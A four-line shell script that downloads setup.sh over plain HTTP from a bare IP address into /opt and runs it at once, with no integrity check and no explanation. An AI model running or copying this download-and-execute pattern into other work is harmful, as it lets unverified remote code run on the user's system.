#!/bin/sh
cd /opt
wget http://192.0.2.9/setup.sh
sh setup.sh
